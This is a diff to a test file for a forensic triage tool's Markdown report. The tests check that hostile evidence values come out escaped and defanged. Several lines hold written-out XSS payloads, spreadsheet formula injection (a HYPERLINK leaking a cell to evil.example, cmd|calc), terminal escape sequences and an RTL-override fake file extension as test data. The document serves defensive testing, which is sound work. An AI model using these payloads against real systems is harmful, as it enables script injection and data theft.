@@ -37,20 +37,20 @@ describe('Markdown: hostile evidence is inert text', () => {
     expect(md.replace(/\n/g, '')).not.toMatch(/[\u0000-\u001f\u007f-\u009f\u200b-\u200f\u202a-\u202e\u2066-\u2069\ufeff]/)
   })
   it('escapes each payload', () => {
-    expect(md).toContain('#### ADDS POINTS PAY-01: Payment platform used by IT workers &lt;script&gt;document.title=\'PWNED\';window.\\_\\_pwned=1&lt;/script&gt;\n')
+    expect(md).toContain('#### ADDS POINTS PAY-01: Payment platform used by IT workers &lt;script&gt;document\\[.\\]title=\'PWNED\';window.\\_\\_pwned=1&lt;/script&gt;\n')
     expect(md).toContain('**title**=&lt;img src=x onerror=alert(1)&gt;; **url**=javascript\\[:\\]alert(1); **user**=bob')
     expect(md).toContain('**install\\_location**=&lt;/style&gt;&lt;style&gt;body{background:url(hxxp://127\\[.\\]0\\[.\\]0\\[.\\]1:9/css)}&lt;/style&gt;;')
-    expect(md).toContain('**note**=&lt;/textarea&gt;&lt;svg onload="document.title=\'PWNED\'"&gt;;')
+    expect(md).toContain('**note**=&lt;/textarea&gt;&lt;svg onload="document\\[.\\]title=\'PWNED\'"&gt;;')
     expect(md).toContain('**remote\\_alias**=\\=HYPERLINK("hxxp://evil\\[.\\]example/?leak="&amp;A1,"click me");')
     expect(md).toContain("**file**=\\+cmd\\|' /C calc'!A0; **label**=@SUM(1+1)\\*cmd\\|' /C calc'!A0; **size\\_note**=\\-2+3; **tab**=␉=1+1;")
     expect(md).toContain('**md**=\\# heading \\*bold\\* \\_it\\_ \\`code\\` \\[link\\](hxxp://evil\\[.\\]example) !\\[x\\](hxxp://evil\\[.\\]example/x.png) \\~\\~s\\~\\~ \\$x\\$ \\\\;')
     expect(md).toContain('raw: transfer ␛\\[31mRED␛\\[0m␛\\]0;owned␇ nul␀byte')
-    expect(md).toContain('to invoice⟨U+202E⟩gpj.exe')
+    expect(md).toContain('to invoice⟨U+202E⟩gpj\\[.\\]exe')
     expect(md).toContain('Evidence: /evidence/laptop-farm-01 &lt;img src=x onerror=alert(1)&gt;\n')
   })
   it('escapes pipes and flattens newlines in table cells', () => {
     expect(md).toContain('| File transfer col\\|with\\|pipes␊and a second line␍␊and a third · **bytes**=\\-5;')
-    expect(md).toContain('  - &lt;img src=hxxp://127\\[.\\]0\\[.\\]0\\[.\\]1:9/img onerror="document.body.setAttribute(\'data-pwned\',\'img\')"&gt;: col\\|with\\|pipes␊and a second line␍␊and a third: javascript\\[:\\]alert(1)\n')
+    expect(md).toContain('  - &lt;img src=hxxp://127\\[.\\]0\\[.\\]0\\[.\\]1:9/img onerror="document\\[.\\]body\\[.\\]setAttribute(\'data-pwned\',\'img\')"&gt;: col\\|with\\|pipes␊and a second line␍␊and a third: javascript\\[:\\]alert(1)\n')
     // every table row has as many cells as its header
     const lines = md.split('\n')
     let width = 0
@@ -77,7 +77,7 @@ describe('Markdown: hostile evidence is inert text', () => {
     expect(md).toContain('  - url = hxxps://www\\[.\\]payoneer\\[.\\]com/login?next=/withdraw · 1 event, e.g. c1-0003\n')
   })
   it('cuts long values with a marker', () => {
-    expect(md).toContain('ad.roster.entry=' + 'A'.repeat(1984) + '… \\[cut: 38,017 more characters; full value in the JSON/JSONL/CSV export\\] ·')
+    expect(md).toContain('ad\\[.\\]roster\\[.\\]entry=' + 'A'.repeat(1984) + '… \\[cut: 38,017 more characters; full value in the JSON/JSONL/CSV export\\] ·')
     expect(md).not.toContain('END-OF-LONG')
   })
 })
@@ -108,7 +108,7 @@ describe('Markdown: content', () => {
     expect(md).toContain('Not shown here: 1 other event (browser.visit: 1). The full timeline is in the JSONL or CSV export')
     expect(md).toContain('| ip | 203.0.113.7 | laptop-farm-01, laptop-farm-02 | c1-0002, c2-0001 |\n')
     expect(md).toContain(`| C/Users/bob/AppData/Roaming/AnyDesk/ad.trace (C:/Users/bob/AppData/Roaming/AnyDesk/ad.trace) | anydesk.trace | 18,432 | ${'a'.repeat(64)} | parsed | 4 |   |\n`)
-    expect(md).toContain('| firefox.places | Firefox places.sqlite | not found in the evidence |\n')
+    expect(md).toContain('| firefox.places | Firefox places\\[.\\]sqlite | not found in the evidence |\n')
     expect(md).toContain('| chromium.history | Chromium history | found: 1 artifact (1 partial), 4 events |\n')
     expect(md).toContain('Command line: dprk-triage scan /evidence/laptop-farm-01 /evidence/laptop-farm-02.zip --claimed-tz America/New\\_York --out "&lt;script&gt;')
     expect(md).toContain('Indicator pack **dprk-itw** version **2024.06**, 42 indicators; loaded: builtin:dprk-itw.yaml.\n')
